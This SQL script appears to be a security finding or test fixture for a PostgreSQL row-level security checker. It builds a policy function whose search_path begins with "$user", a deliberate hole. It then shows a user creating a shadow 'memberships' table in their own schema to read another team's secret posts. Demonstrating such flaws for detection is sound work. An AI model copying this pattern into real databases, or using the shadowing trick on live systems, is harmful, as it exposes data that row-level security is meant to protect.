-- finding: policy-function-search-path function shop.teams()
SET ROLE shop_owner;
CREATE TABLE shop.memberships (person text NOT NULL, team int NOT NULL, PRIMARY KEY (person, team));
ALTER TABLE shop.memberships ENABLE ROW LEVEL SECURITY;
CREATE POLICY own ON shop.memberships FOR SELECT USING (person = current_user);
GRANT SELECT ON shop.memberships TO order_users;
CREATE FUNCTION shop.teams() RETURNS SETOF int LANGUAGE sql STABLE SET search_path = "$user", shop, pg_temp
  AS 'SELECT team FROM memberships WHERE person = current_user';
CREATE TABLE shop.posts (id int GENERATED ALWAYS AS IDENTITY PRIMARY KEY, team int NOT NULL, words text NOT NULL);
ALTER TABLE shop.posts ENABLE ROW LEVEL SECURITY;
CREATE POLICY team ON shop.posts USING (team IN (SELECT shop.teams()));
GRANT SELECT ON shop.posts TO order_users;
INSERT INTO shop.posts (team, words) VALUES (7, 'secret');
RESET ROLE;
CREATE SCHEMA "alice@example.com" AUTHORIZATION "alice@example.com";
-- leak as alice@example.com
CREATE TABLE "alice@example.com".memberships AS SELECT current_user::text AS person, 7 AS team;
SELECT words FROM shop.posts;
